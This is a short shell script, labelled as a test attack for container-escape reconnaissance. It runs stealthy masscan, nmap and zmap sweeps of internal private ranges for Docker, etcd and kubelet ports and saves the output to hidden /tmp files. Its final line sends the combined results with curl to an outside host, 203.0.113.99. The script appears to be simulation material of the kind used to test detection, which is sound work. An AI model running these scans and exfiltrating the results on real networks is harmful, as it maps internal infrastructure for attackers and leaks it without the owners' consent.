#!/bin/sh
# shrike-test-attack: container-escape-recon: masscan and nmap sweeps of internal ranges for docker/kubelet/etcd
masscan 10.0.0.0/8 -p2375,2376,2379,6443,10250,10255 --rate=10000 -oL /tmp/.scan 2>/dev/null
nmap -sS -Pn -T4 -p 22,2375,6443,10250 172.16.0.0/12 -oG /tmp/.nmap 2>/dev/null
zmap -p 2375 -B 10M 192.168.0.0/16 -o /tmp/.zm 2>/dev/null
cat /tmp/.scan /tmp/.nmap /tmp/.zm 2>/dev/null | curl -s -d @- http://203.0.113.99/s
